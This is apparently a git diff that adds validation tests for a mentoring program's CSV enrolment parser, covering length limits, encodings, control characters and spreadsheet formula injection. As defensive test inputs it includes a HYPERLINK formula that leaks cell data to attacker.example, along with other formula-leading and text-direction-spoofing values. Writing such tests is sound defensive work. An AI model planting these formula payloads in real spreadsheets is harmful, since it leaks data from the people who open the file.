@@ -1,9 +1,19 @@
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, rm, truncate, writeFile } from 'node:fs/promises';
 import { readFileSync } from 'node:fs';
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
-import { ENROLMENT_COLUMNS, EnrolmentError, parseEnrolment, readEnrolment, type PairRow } from '#use-cases/enrolment/read-enrolment';
+import {
+  ENROLMENT_COLUMNS,
+  EnrolmentError,
+  groupIntoRelationships,
+  parseEnrolment,
+  parseEnrolmentFile,
+  readEnrolment,
+  type PairRow,
+} from '#use-cases/enrolment/read-enrolment';
 import { exampleProgram } from '../support/cohort.ts';
 
 const program = exampleProgram();
@@ -30,7 +40,10 @@ const pair = (n: number, change: Row = {}): Row => ({
   ...change,
 });
 
-const csv = (rows: Row[], eol = '\n'): string => [HEADER, ...rows.map((row) => ENROLMENT_COLUMNS.map((c) => row[c] ?? '').join(','))].join(eol) + eol;
+/** A cell as a spreadsheet writes it: quoted when it holds a comma, a quote or a line end. */
+const cellOf = (value: string): string => (/[",\r\n]|^\s/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
+
+const csv = (rows: Row[], eol = '\n'): string => [HEADER, ...rows.map((row) => ENROLMENT_COLUMNS.map((c) => cellOf(row[c] ?? '')).join(','))].join(eol) + eol;
 
 /** The problems an EnrolmentError lists, or a failed test when the file is accepted. */
 const problemsOf = (text: string): string[] => {
@@ -235,5 +248,228 @@ describe('the shape of the file', () => {
     ]);
     expect(rows[2]!.mentee.email).toBe('mentee3@example.org');
     expect(rows[2]!.competencies).toEqual(['delegation', 'giving-feedback']);
+  });
+});
+
+describe('what a cell may hold: names a person would write, nothing that reads or runs otherwise', () => {
+  test('a name of 102,400 characters is refused by its length, and never echoed back', () => {
+    const problems = problemsOf(csv([pair(1), pair(2, { mentee_name: 'x'.repeat(102_400) })]));
+    expect(problems).toEqual(['row 3: mentee_name is 102,400 characters long; at most 100']);
+  });
+
+  test.each([
+    ['mentee_name', 100],
+    ['mentor_name', 100],
+    ['manager_name', 100],
+    ['coordinator_name', 100],
+    ['circle', 100],
+    ['competencies', 1_000],
+    ['time_zone', 64],
+    ['start_date', 32],
+  ] as const)('%s holds at most %i characters', (column, limit) => {
+    expect(problemsOf(csv([pair(1, { [column]: 'a'.repeat(limit + 1) })]))).toEqual([
+      `row 2: ${column} is ${(limit + 1).toLocaleString('en')} characters long; at most ${limit.toLocaleString('en')}`,
+    ]);
+  });
+
+  test('an e-mail address holds at most 254 characters, as SMTP carries', () => {
+    const longest = `${'m'.repeat(64)}@${'d'.repeat(63)}.${'e'.repeat(63)}.${'x'.repeat(57)}.org`;
+    expect(longest).toHaveLength(254);
+    expect(parseEnrolment(csv([pair(1, { mentee_email: longest })]), program, FILE)[0]!.mentee.email).toBe(longest);
+    expect(problemsOf(csv([pair(1, { mentee_email: `a${longest}` })]))).toEqual(['row 2: mentee_email is 255 characters long; at most 254']);
+  });
+
+  test('a name of exactly 100 characters, and names from around the world, are taken as written', () => {
+    const names = ['a'.repeat(100), 'Zoë Ødegård-Łukasiewicz', "Siobhán O'Brien", '李小龙', 'محمد بن سلمان', 'Anne-Marie @ Sales', 'Ngũgĩ wa Thiong’o 🌍'];
+    const rows = parseEnrolment(csv(names.map((name, i) => pair(i + 1, { mentee_name: name }))), program, FILE);
+    expect(rows.map((r) => r.mentee.name)).toEqual(names);
+  });
+
+  test('a name a spreadsheet would run as a formula is refused, showing only its start', () => {
+    expect(problemsOf(csv([pair(1), pair(2), pair(3, { mentor_name: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")' })]))).toEqual([
+      'row 4: mentor_name "=HYPERLINK("http://a…" starts with "=", which a spreadsheet would run as a formula; remove it',
+    ]);
+  });
+
+  test.each([
+    ['+1+1', '"+"'],
+    ['-2+3', '"-"'],
+    ['@SUM(A1:A9)', '"@"'],
+    ['  =1+1', '"="'],
+    ['\t=1+1', 'a tab'],
+    ['\r=1+1', 'a carriage return'],
+  ])('a name that starts with %j', (name, start) => {
+    const [problem, ...others] = problemsOf(csv([pair(1, { manager_name: name })]));
+    expect(others).toEqual([]);
+    // A line end inside a cell makes the row's number that of the line it ends on, as an editor counts.
+    expect(problem).toMatch(/^row \d: manager_name ".+" starts with /);
+    expect(problem).toContain(` starts with ${start}, which a spreadsheet would run as a formula; remove it`);
+  });
+
+  test('a circle whose name would run as a formula is refused too', () => {
+    expect(problemsOf(csv([pair(1, { circle: '@cmd' })]))).toEqual([
+      'row 2: circle "@cmd" starts with "@", which a spreadsheet would run as a formula; remove it',
+    ]);
+  });
+
+  test.each([
+    ['a bell', 'Eva\u0007', 'a control character (U+0007) at character 4'],
+    ['a NUL', 'Eva\u0000de Vries', 'a control character (U+0000) at character 4'],
+    ['a C1 control', 'Eva\u0085', 'a control character (U+0085) at character 4'],
+    ['a line break inside a quoted cell', 'Eva\nde Vries', 'a control character (U+000A) at character 4'],
+    ['a right-to-left override', 'Eva\u202Eexe.txt', 'a text-direction override (U+202E) at character 4'],
+    ['a first-strong isolate', '\u2068Eva', 'a text-direction override (U+2068) at character 1'],
+  ])('a name holding %s', (_, name, what) => {
+    const why = what.includes('direction') ? ', which makes it read otherwise than it is stored' : '';
+    // The line break ends the row on line 3; the row is named by the line it ends on.
+    expect(problemsOf(csv([pair(1, { manager_name: name })]))).toEqual([expect.stringMatching(/^row [23]: /)]);
+    expect(problemsOf(csv([pair(1, { manager_name: name })]))[0]!.replace(/^row \d: /, '')).toBe(`manager_name contains ${what}${why}; remove it`);
+  });
+
+  test('a refused cell is reported once, not again as empty, mismatched or malformed', () => {
+    const problems = problemsOf(csv([pair(1), pair(2, { coordinator_name: '=Ingrid', competencies: 'x'.repeat(5_000), time_zone: 'Europe/\u0000' })]));
+    expect(problems).toEqual([
+      'row 3: coordinator_name "=Ingrid" starts with "=", which a spreadsheet would run as a formula; remove it',
+      'row 3: competencies is 5,000 characters long; at most 1,000',
+      'row 3: time_zone contains a control character (U+0000) at character 8; remove it',
+    ]);
+  });
+
+  test('thousands of mistakes: the message lists the first ones and counts the rest', () => {
+    const rows = Array.from({ length: 5_000 }, (_, i) => pair(i + 1, { competencies: 'juggling' }));
+    let error: EnrolmentError | undefined;
+    try {
+      parseEnrolment(csv(rows), program, FILE);
+    } catch (e) {
+      error = e as EnrolmentError;
+    }
+    expect(error).toBeInstanceOf(EnrolmentError);
+    expect(error!.problems).toHaveLength(5_000);
+    expect(error!.message.length).toBeLessThanOrEqual(4_100);
+    expect(error!.message).toMatch(/^ {2}- row 2: competency "juggling"/m);
+    expect(error!.message).toMatch(/\n {2}… and 4,9\d\d more problems; fix these and check the file again$/);
+  });
+
+  test('a header of unknown columns names each in part, and a column named twice is refused', () => {
+    const header = `${HEADER},${'x'.repeat(10_000)}`;
+    expect(problemsOf(`${header}\n${csv([pair(1)]).split('\n')[1]},\n`)).toEqual([
+      `column ${'x'.repeat(40)}… is not known (known columns: ${ENROLMENT_COLUMNS.join(', ')})`,
+    ]);
+    expect(problemsOf(csv([pair(1)]).replace('circle', 'mentee_email'))).toEqual(['column mentee_email is there twice; keep one']);
+  });
+});
+
+describe('a file that is not CSV text is refused once, naming the line, and its bytes are never shown', () => {
+  const SAVE = 'save the sheet as CSV UTF-8';
+  const problemsOfBytes = (bytes: Uint8Array): string[] => {
+    try {
+      parseEnrolmentFile(bytes, program, FILE);
+    } catch (error) {
+      expect(error).toBeInstanceOf(EnrolmentError);
+      // eslint-disable-next-line no-control-regex -- a message never holds a raw control byte
+      expect((error as EnrolmentError).message).not.toMatch(/[\u0000-\u0008\u000E-\u001F\uFFFD]/);
+      return (error as EnrolmentError).problems;
+    }
+    throw new Error('the file was accepted');
+  };
+
+  test('a NUL byte in a row', () => {
+    expect(problemsOfBytes(Buffer.from(csv([pair(1), pair(2, { mentee_name: 'Ada\u0000' })])))).toEqual([`line 3: contains binary data (byte 0x00); ${SAVE}`]);
+  });
+
+  test('a workbook saved under a .csv name', () => {
+    const workbook = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00]);
+    expect(problemsOfBytes(workbook)).toEqual([`line 1: contains binary data (byte 0x00); ${SAVE}`]);
+  });
+
+  test('a sheet exported as Latin-1', () => {
+    expect(problemsOfBytes(Buffer.from(csv([pair(1), pair(2, { mentor_name: 'Zoë Ødegård' })]), 'latin1'))).toEqual([
+      `line 3: is not UTF-8 text (byte 0xEB); ${SAVE}`,
+    ]);
+  });
+
+  test('a sheet saved as UTF-16, with or without a byte order mark', () => {
+    const text = csv([pair(1)]);
+    expect(problemsOfBytes(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))).toEqual([
+      `line 1: is saved as UTF-16 (it starts with bytes 0xFF 0xFE); ${SAVE}`,
+    ]);
+    expect(problemsOfBytes(Buffer.from(text, 'utf16le'))).toEqual([`line 1: contains binary data (byte 0x00); ${SAVE}`]);
+  });
+
+  test.each([
+    ['an overlong slash', [0xc0, 0xaf]],
+    ['a lone continuation byte', [0x80]],
+    ['a surrogate', [0xed, 0xa0, 0x80]],
+    ['a code point past U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
+    ['a sequence cut short at the end', [0xe2, 0x82]],
+  ])('%s is not UTF-8', (_, bytes) => {
+    const text = Buffer.from(csv([pair(1)]).replace('Mentee 1', 'Mentee #'));
+    const at = text.indexOf('#');
+    const bad = Buffer.concat([text.subarray(0, at), Buffer.from(bytes), text.subarray(at + 1)]);
+    expect(problemsOfBytes(bad)).toEqual([`line 2: is not UTF-8 text (byte 0x${bytes[0]!.toString(16).toUpperCase()}); ${SAVE}`]);
+  });
+
+  test('UTF-8 with a byte order mark and names in any script is read as written', () => {
+    const rows = parseEnrolmentFile(Buffer.from(`\uFEFF${csv([pair(1, { mentee_name: 'Łukasz 李 Ødegård 🌍' })])}`), program, FILE);
+    expect(rows[0]!.mentee.name).toBe('Łukasz 李 Ødegård 🌍');
+  });
+
+  test('a file too large to be an enrolment is refused before it is read', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'mentoring-enrolment-'));
+    try {
+      const file = join(dir, 'huge.csv');
+      await writeFile(file, '');
+      await truncate(file, 11 * 1_048_576);
+      await expect(readEnrolment(file, program)).rejects.toMatchObject({ name: 'EnrolmentError', problems: ['is 11 MB; at most 10 MB is read'] });
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+
+  test('mentoring validate says what is wrong and exits 2, without a stack trace', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'mentoring-enrolment-'));
+    try {
+      const file = join(dir, 'cohort.csv');
+      await writeFile(file, Buffer.from(csv([pair(1), pair(2, { mentee_name: 'Ada\u0000' })])));
+      const run = promisify(execFile)(
+        process.execPath,
+        ['--import', 'tsx', 'cli/mentoring.ts', 'validate', '--program', 'examples/program.yaml', '--enrolment', file],
+        {
+          cwd: new URL('../../', import.meta.url),
+        },
+      );
+      const failed = await run.then(
+        () => undefined,
+        (error: { code: number; stderr: string }) => error,
+      );
+      expect(failed?.code).toBe(2);
+      expect(failed?.stderr).toBe(`${file} cannot be enrolled; nothing was stored:\n  - line 3: contains binary data (byte 0x00); ${SAVE}\n`);
+    } finally {
+      await rm(dir, { recursive: true, force: true });
+    }
+  });
+});
+
+describe('a large cohort', () => {
+  test('10,000 pairs, with circles and time zones among them, are all valid and group into their relationships', () => {
+    const zones = ['', 'Europe/Oslo', 'Asia/Jakarta', 'America/Sao_Paulo'];
+    // Every tenth block of ten rows is a circle of three around one mentor; the rest are pairs.
+    const rows = Array.from({ length: 10_000 }, (_, i) => {
+      const block = Math.floor(i / 10);
+      const inCircle = i % 10 < 3;
+      return pair(i + 1, {
+        ...(inCircle ? { mentor_name: `Mentor ${block}`, mentor_email: `circle-mentor${block}@example.org`, circle: `Circle ${block}` } : {}),
+        manager_name: `Manager ${i % 50}`,
+        manager_email: `manager${i % 50}@example.org`,
+        competencies: 'delegation; giving-feedback',
+        time_zone: zones[block % zones.length],
+      });
+    });
+    const parsed = parseEnrolmentFile(Buffer.from(csv(rows)), program, FILE);
+    expect(parsed).toHaveLength(10_000);
+    expect(parsed.at(-1)).toMatchObject({ row: 10_001, mentee: { email: 'mentee10000@example.org' }, timeZone: 'America/Sao_Paulo' });
+    const groups = groupIntoRelationships(parsed);
+    expect(groups).toHaveLength(1_000 + 7_000);
+    expect(groups.filter((g) => g.length === 3)).toHaveLength(1_000);
   });
 });
